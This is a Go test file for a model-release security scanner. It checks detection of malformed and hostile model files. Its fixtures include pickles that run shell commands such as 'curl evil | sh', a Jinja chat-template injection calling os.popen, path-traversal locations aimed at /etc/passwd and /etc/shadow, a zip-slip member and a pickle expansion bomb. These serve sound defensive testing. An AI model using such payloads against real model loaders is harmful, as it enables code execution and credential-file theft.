package manifest

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modelvet/modelvet/finding"
	"github.com/modelvet/modelvet/formats"
	"github.com/modelvet/modelvet/formats/pickle"
	"github.com/modelvet/modelvet/internal/testmodel"
)

// TestOpenHeaderOnlyCapture checks that describing a release keeps the
// header facts of a truncated file next to the Problem.
func TestOpenHeaderOnlyCapture(t *testing.T) {
	dir := t.TempDir()
	st := testmodel.Safetensors{Metadata: map[string]string{"format": "pt"}, Tensors: []testmodel.SafetensorsTensor{
		{Name: "a", Dtype: "BF16", Shape: []uint64{4, 4}}, {Name: "b", Dtype: "F32", Shape: []uint64{3}},
	}}
	if err := os.WriteFile(filepath.Join(dir, "model.safetensors"), st.HeaderBytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	rel, err := Dir(dir).Open(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	f := rel.File("model.safetensors")
	if f == nil || f.Safetensors == nil {
		t.Fatalf("header facts dropped: %+v", f)
	}
	if f.Safetensors.Parameters != 19 || !f.Safetensors.Truncated {
		t.Errorf("Parameters = %d, Truncated = %v; want 19, true", f.Safetensors.Parameters, f.Safetensors.Truncated)
	}
	if len(rel.Problems) != 1 || !errors.Is(rel.Problems[0].Err, formats.ErrTruncated) {
		t.Fatalf("Problems = %+v, want one truncation problem", rel.Problems)
	}
	if p := rel.Problems[0]; p.Path != "model.safetensors" || p.Offset != int64(len(st.HeaderBytes())) {
		t.Errorf("problem at %s offset %d", p.Path, p.Offset)
	}
	fs := rel.Findings()
	if len(fs) != 1 || fs[0].Code != finding.FormatMalformed {
		t.Errorf("Findings = %+v, want one format.malformed", fs)
	}
}

// TestGGUFEvidence: evidence for a GGUF key cites the file, the key's byte
// offset and its value, as license and provenance quote it.
func TestGGUFEvidence(t *testing.T) {
	dir := t.TempDir()
	data := testmodel.GGUF{KV: []testmodel.KV{
		{Key: "general.architecture", Value: testmodel.String("qwen2")},
		{Key: "general.license", Value: testmodel.String("apache-2.0")},
		{Key: "general.base_model.count", Value: testmodel.Uint32(1)},
	}}.Bytes()
	if err := os.WriteFile(filepath.Join(dir, "m.gguf"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	rel, err := Dir(dir).Open(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	f := rel.File("m.gguf")
	if f == nil || f.GGUF == nil {
		t.Fatalf("m.gguf not read: %+v", rel.Problems)
	}
	if ev := f.GGUFEvidence("general.license"); ev.Path != "m.gguf" || ev.Offset != int64(bytes.Index(data, []byte("general.license"))-8) || ev.Value != "apache-2.0" {
		t.Errorf("license evidence = %+v", ev)
	}
	if ev := f.GGUFEvidence("general.base_model.count"); ev.Value != "1" {
		t.Errorf("count evidence = %+v", ev)
	}
	if ev := f.GGUFEvidence("general.name"); ev != (finding.Evidence{Path: "m.gguf", Field: "general.name"}) {
		t.Errorf("evidence of an absent key = %+v", ev)
	}
}

// TestPickleFindings: a state dict of tensors is a format.pickle finding
// alone, at every protocol; a pickle importing a callable outside the
// allow-list, however it hides the import, is a format.code-execution
// finding too, naming the global.
func TestPickleFindings(t *testing.T) {
	for proto := 0; proto <= 5; proto++ {
		data := testmodel.TorchStateDict(proto, testmodel.FixtureTensors, nil)
		info, err := pickle.Read(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		if fs := pickleFindings("model.pkl", info, ""); len(fs) != 1 || fs[0].Code != finding.FormatPickle {
			t.Errorf("protocol %d: findings = %+v, want only format.pickle", proto, fs)
		}
	}
	ways := map[testmodel.Import]string{
		testmodel.ViaGlobal: "os.system", testmodel.ViaStackGlobal: "os.system", testmodel.ViaInst: "os.system",
		testmodel.ViaMemo: "os.system", testmodel.ViaMemoShadow: "os.system", testmodel.ViaHidden: "unknown.system",
	}
	for proto := 0; proto <= 5; proto++ {
		for how, global := range ways {
			data := testmodel.MaliciousPickle(proto, how, "os", "system", "touch /tmp/pwned")
			info, err := pickle.Read(bytes.NewReader(data), int64(len(data)))
			if err != nil {
				t.Fatal(err)
			}
			fs := pickleFindings("evil.pkl", info, "")
			if len(fs) != 2 || fs[1].Code != finding.FormatCodeExecution || !strings.Contains(fs[1].Message, global) {
				t.Errorf("protocol %d, way %d: findings = %+v", proto, how, fs)
			}
		}
	}
}

// TestPickleFindingsEndToEnd audits a directory holding a hostile
// checkpoint through Parse and Open.
func TestPickleFindingsEndToEnd(t *testing.T) {
	dir := t.TempDir()
	evil := testmodel.TorchZipWith("archive", testmodel.TorchStateDict(2, testmodel.FixtureTensors, func(p *testmodel.Pickler) {
		p.Call("os", "system", "curl evil | sh")
	}), testmodel.FixtureTensors, nil)
	os.WriteFile(filepath.Join(dir, "pytorch_model.bin"), evil, 0o644)
	os.WriteFile(filepath.Join(dir, "clean.pt"), testmodel.TorchZip("clean", 2, testmodel.FixtureTensors), 0o644)
	os.WriteFile(filepath.Join(dir, "optimizer.pkl"), testmodel.MaliciousPickle(0, testmodel.ViaInst, "subprocess", "call", "id"), 0o644)
	src, err := Parse(dir)
	if err != nil {
		t.Fatal(err)
	}
	rel, err := src.Open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	codes := map[string][]finding.Code{}
	for _, f := range rel.Findings() {
		codes[f.Subject] = append(codes[f.Subject], f.Code)
	}
	want := map[string][]finding.Code{
		"clean.pt":          {finding.FormatPickle},
		"optimizer.pkl":     {finding.FormatCodeExecution, finding.FormatPickle},
		"pytorch_model.bin": {finding.FormatCodeExecution, finding.FormatPickle},
	}
	for k, v := range want {
		got := codes[k]
		slices.Sort(got)
		if !slices.Equal(got, v) {
			t.Errorf("%s: codes %v, want %v", k, got, v)
		}
	}
	if f := rel.File("optimizer.pkl"); f == nil || f.Format != FormatPickle || f.Pickle == nil || f.Pickle.Protocol != 0 {
		t.Errorf("optimizer.pkl = %+v", f)
	}
	if f := rel.File("pytorch_model.bin"); f == nil || f.Format != FormatPyTorch {
		t.Errorf("pytorch_model.bin = %+v", f)
	}
}

// TestONNXExternalDataFindings describes releases whose ONNX model keeps
// tensors in other files: present, missing, or outside the release.
func TestONNXExternalDataFindings(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "onnx"), 0o755)
	model := testmodel.ONNXModel(testmodel.ONNXTensor("a", nil, "model.onnx_data"), testmodel.ONNXTensor("b", nil, "missing.bin"), testmodel.ONNXTensor("c", nil, "../../etc/passwd"), testmodel.ONNXTensor("d", nil, "/etc/shadow"), testmodel.ONNXTensor("e", nil, `C:\Windows\win.ini`), testmodel.ONNXTensor("f", nil, "data:v2.bin"))
	os.WriteFile(filepath.Join(dir, "onnx", "model.onnx"), model, 0o644)
	os.WriteFile(filepath.Join(dir, "onnx", "model.onnx_data"), make([]byte, 64), 0o644)
	rel := openSource(t, Dir(dir))
	if f := rel.File("onnx/model.onnx"); f == nil || f.ONNX == nil || len(f.ONNX.ExternalData) != 6 {
		t.Fatalf("onnx = %+v", f)
	}
	var got []string
	for _, f := range rel.Findings() {
		if f.Code == finding.IntegrityMissing || f.Code == finding.FormatMalformed {
			got = append(got, string(f.Code)+" "+f.Subject+" "+f.Evidence[0].Value)
		}
	}
	slices.Sort(got)
	want := []string{
		"format.malformed onnx/model.onnx ../../etc/passwd",
		"format.malformed onnx/model.onnx /etc/shadow",
		`format.malformed onnx/model.onnx C:\Windows\win.ini`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The facts integrity reads: where each location resolves.
	got = nil
	for _, e := range rel.ExternalData() {
		got = append(got, fmt.Sprintf("%s %q → %q outside=%v", e.Tensor, e.Location, e.Target, e.Outside))
	}
	want = []string{
		`a "model.onnx_data" → "onnx/model.onnx_data" outside=false`,
		`b "missing.bin" → "onnx/missing.bin" outside=false`,
		`c "../../etc/passwd" → "" outside=true`,
		`d "/etc/shadow" → "" outside=true`,
		`e "C:\\Windows\\win.ini" → "" outside=true`,
		`f "data:v2.bin" → "onnx/data:v2.bin" outside=false`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("external data:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestKerasFindings describes releases holding Keras files and checks the
// code-execution findings.
func TestKerasFindings(t *testing.T) {
	dir := t.TempDir()
	h5, err := os.ReadFile(filepath.Join("..", "formats", "keras", "testdata", "lambda.h5"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "model.h5"), h5, 0o644)
	os.WriteFile(filepath.Join(dir, "model.keras"), testmodel.KerasArchive(testmodel.Keras3Config), 0o644)
	rel := openSource(t, Dir(dir))
	got := map[string]finding.Finding{}
	for _, f := range rel.Findings() {
		if f.Code == finding.FormatCodeExecution {
			got[f.Subject] = f
		}
	}
	if f, ok := got["model.h5"]; !ok || f.Confidence != finding.Inferred || !strings.Contains(f.Message, "2 Lambda layers (scale, named_fn)") || !strings.Contains(f.Message, "1 of them carry serialised bytecode") {
		t.Errorf("model.h5: %+v", f)
	}
	if f, ok := got["model.keras"]; !ok || f.Confidence != finding.Verified || len(f.Evidence) != 2 || f.Evidence[0].Field != "config.layers.1" {
		t.Errorf("model.keras: %+v", f)
	}
	if k := rel.File("model.keras").Keras; k == nil {
		t.Error("model.keras: no Keras facts")
	} else if b, _ := json.Marshal(k); !strings.Contains(string(b), `"name":"scale","bytecode":true`) {
		t.Errorf("model.keras JSON = %s", b)
	}
}

// A pickle's dangerous imports are named with what they do; an expansion
// bomb is reported as hostile input with its size and the opcode that
// builds it.
func TestPickleFindingsNameCategoriesAndBombs(t *testing.T) {
	dir := t.TempDir()
	bomb := testmodel.PickleBomb(4, 12, 10, true)
	writeTree(t, dir, map[string][]byte{
		"exfil.pkl": testmodel.MaliciousPickle(2, testmodel.ViaGlobal, "urllib.request", "urlopen", "http://x.invalid"),
		"shell.pkl": testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "posix", "system", "id"),
		"bomb.pkl":  bomb,
	})
	rel := openSource(t, Dir(dir))
	byKey := map[string]finding.Finding{}
	for _, f := range rel.Findings() {
		byKey[string(f.Code)+" "+f.Subject] = f
	}
	for key, want := range map[string]string{
		"format.code-execution exfil.pkl": "known to run code: urllib.request.urlopen (network: opens network connections)",
		"format.code-execution shell.pkl": "known to run code: posix.system (process: starts processes or runs shell commands)",
		"format.malformed bomb.pkl":       "bomb.pkl is an expansion bomb: 214 opcodes build an object that expands to 2111111111111 objects",
	} {
		if f, ok := byKey[key]; !ok || !strings.Contains(f.Message, want) {
			t.Errorf("%s: %q, want it to say %q", key, f.Message, want)
		}
	}
	if ev := byKey["format.code-execution shell.pkl"].Evidence; len(ev) != 1 || ev[0].Field != "unsafe global (process)" || ev[0].Value != "posix.system" {
		t.Errorf("evidence %+v", ev)
	}
	if _, ok := byKey["format.code-execution bomb.pkl"]; ok {
		t.Error("a bomb of lists imports nothing, yet raised code execution")
	}
}

// A GGUF file whose tensor infos fail validation (here two tensors whose
// data overlap, as a hand-edited or damaged quantisation has) keeps the
// metadata read before them: its licence, base model and names are still
// what the release declares, beside the format.malformed finding.
func TestGGUFBadTensorInfosKeepMetadata(t *testing.T) {
	off := uint64(64)
	m := testmodel.GGUF{KV: []testmodel.KV{
		{Key: "general.architecture", Value: testmodel.String("qwen2")},
		{Key: "general.name", Value: testmodel.String("DeepSeek R1 Distill Qwen 7B")},
		{Key: "general.license", Value: testmodel.String("mit")},
		{Key: "general.base_model.count", Value: testmodel.Uint32(1)},
		{Key: "general.base_model.0.name", Value: testmodel.String("DeepSeek R1 Distill Qwen 7B")},
		{Key: "general.base_model.0.organization", Value: testmodel.String("Deepseek Ai")},
		{Key: "general.base_model.0.repo_url", Value: testmodel.String("https://huggingface.co/deepseek-ai/DeepSeek-R1-Distill-Qwen-7B")},
	}, Tensors: []testmodel.GGUFTensor{
		{Name: "token_embd.weight", Dims: []uint64{64}, Type: testmodel.GGMLF32},
		{Name: "output.weight", Dims: []uint64{64}, Type: testmodel.GGMLF32, Offset: &off},
	}}
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{"model-Q4_K_M.gguf": m.Bytes()})
	rel := openSource(t, Dir(dir))
	f := rel.File("model-Q4_K_M.gguf")
	if f.GGUF == nil || f.GGUF.String("general.license") != "mit" || len(f.GGUF.BaseModels()) != 1 || f.GGUF.Architecture != "qwen2" {
		t.Fatalf("metadata dropped: %+v", f.GGUF)
	}
	if f.GGUF.Parameters != 0 || f.GGUF.TensorTypes != nil {
		t.Errorf("tensor facts kept from invalid tensor infos: %+v", f.GGUF)
	}
	var malformed []string
	for _, fd := range rel.Findings() {
		if fd.Code == finding.FormatMalformed {
			malformed = append(malformed, fd.Message)
		}
	}
	if len(malformed) != 1 || !strings.Contains(malformed[0], `tensor "output.weight" data at offset 64 overlaps tensor "token_embd.weight"`) {
		t.Errorf("malformed %q", malformed)
	}
}

// Chat templates are checked wherever a release carries them: GGUF
// metadata, tokenizer_config.json (a string, or a list of named templates)
// and chat_template.jinja. A hostile one raises format.code-execution with
// evidence at the file offset of the construct, escapes in JSON included;
// an ordinary one raises nothing.
func TestChatTemplateFindings(t *testing.T) {
	hostile := "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"
	ordinary := "{% for m in messages %}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n{% endfor %}"
	cfg, err := json.Marshal(map[string]any{"chat_template": []map[string]string{
		{"name": "default", "template": ordinary},
		{"name": "tool_use", "template": "{# <\u00e9> \"q\" #}\n" + hostile},
	}})
	if err != nil {
		t.Fatal(err)
	}
	g := testmodel.GGUF{KV: []testmodel.KV{
		{Key: "general.architecture", Value: testmodel.String("llama")},
		{Key: "tokenizer.chat_template", Value: testmodel.String(hostile)},
	}}
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"model.gguf":                  g.Bytes(),
		"tokenizer_config.json":       cfg,
		"chat_template.jinja":         []byte(ordinary),
		"other/tokenizer_config.json": []byte(`{"chat_template": "{{ bos_token }}"}`),
		"evil/chat_template.jinja":    []byte(hostile),
	})
	rel := openSource(t, Dir(dir))
	if len(rel.TemplateChecks) != 6 {
		t.Errorf("%d templates", len(rel.TemplateChecks))
	}
	got := map[string]finding.Finding{}
	for _, f := range rel.Findings() {
		if f.Code == finding.FormatCodeExecution {
			got[f.Subject] = f
		}
	}
	if len(got) != 3 {
		t.Fatalf("code execution for %v", slices.Sorted(maps.Keys(got)))
	}
	for subject, f := range got {
		data, err := os.ReadFile(filepath.Join(dir, subject))
		if err != nil {
			t.Fatal(err)
		}
		ev := f.Evidence[0]
		if !strings.HasPrefix(string(data[ev.Offset:]), "__init__") || ev.Value != "__init__ (from cycler)" || !strings.Contains(f.Message, "CVE-2024-34359") {
			t.Errorf("%s: evidence %+v at %q; message %q", subject, ev, data[ev.Offset:min(int(ev.Offset)+10, len(data))], f.Message)
		}
	}
	if f := got["tokenizer_config.json"]; !strings.Contains(f.Message, "tokenizer_config.json chat_template[tool_use] is a chat template") {
		t.Errorf("message %q", f.Message)
	}
}

// Content decides the format and the name is a hint: a PyTorch zip is
// read as one under any name, a name that claims another format is
// reported, and archive members are read as files, their findings citing
// ARCHIVE!/MEMBER.
func TestContentDetectionAndMembers(t *testing.T) {
	evil := testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "builtins", "eval", "1")
	torch := testmodel.TorchZipWith("archive", testmodel.TorchStateDict(2, testmodel.FixtureTensors, func(p *testmodel.Pickler) { p.Call("posix", "system", "id") }), testmodel.FixtureTensors, nil)
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"weights":           torch,
		"model.safetensors": torch,
		"bundle.zip":        testmodel.ZipArchive(true, testmodel.Member{Name: "data.txt", Data: evil}, testmodel.Member{Name: "../escape.sh", Data: []byte("id\n")}),
		"plain.zip":         testmodel.ZipArchive(false, testmodel.Member{Name: "README.md", Data: []byte("# hi\n")}),
	})
	rel := openSource(t, Dir(dir))
	for p, want := range map[string]Format{"weights": FormatPyTorch, "model.safetensors": FormatPyTorch, "bundle.zip": FormatArchive, "plain.zip": FormatArchive} {
		if f := rel.File(p); f == nil || f.Format != want {
			t.Errorf("%s: %+v, want %s", p, f, want)
		}
	}
	if m := rel.File("weights").Mismatch; m != "" {
		t.Errorf("a file without an extension is not a lie: %q", m)
	}
	b := rel.File("bundle.zip")
	if len(b.Members) != 2 || b.Members[0].Path != "bundle.zip!/data.txt" || b.Members[0].Format != FormatPickle || b.Members[0].Mismatch == "" {
		t.Fatalf("members %+v", b.Members)
	}
	got := map[string]string{}
	for _, f := range rel.Findings() {
		if f.Code == finding.FormatCodeExecution || f.Code == finding.FormatMalformed {
			got[string(f.Code)+" "+f.Subject] = f.Message
		}
	}
	for key, want := range map[string]string{
		"format.code-execution weights":              "posix.system (process",
		"format.code-execution model.safetensors":    "posix.system (process",
		"format.malformed model.safetensors":         "model.safetensors is not what its name says: its name (.safetensors) claims safetensors, but its content is pytorch",
		"format.code-execution bundle.zip!/data.txt": "bundle.zip!/data.txt imports callables outside the safe allow-list of tensor-rebuild globals (known to run code: builtins.eval (code loading",
		"format.malformed bundle.zip!/data.txt":      "its name (.txt) claims no model format, but its content is pickle",
		"format.malformed bundle.zip":                `bundle.zip holds 1 member(s) whose names leave the folder it is extracted to (member (leaves the folder (..)): "../escape.sh")`,
	} {
		if !strings.Contains(got[key], want) {
			t.Errorf("%s: %q, want %q", key, got[key], want)
		}
	}
	if len(got) != 6 {
		t.Errorf("findings %v", slices.Sorted(maps.Keys(got)))
	}
}
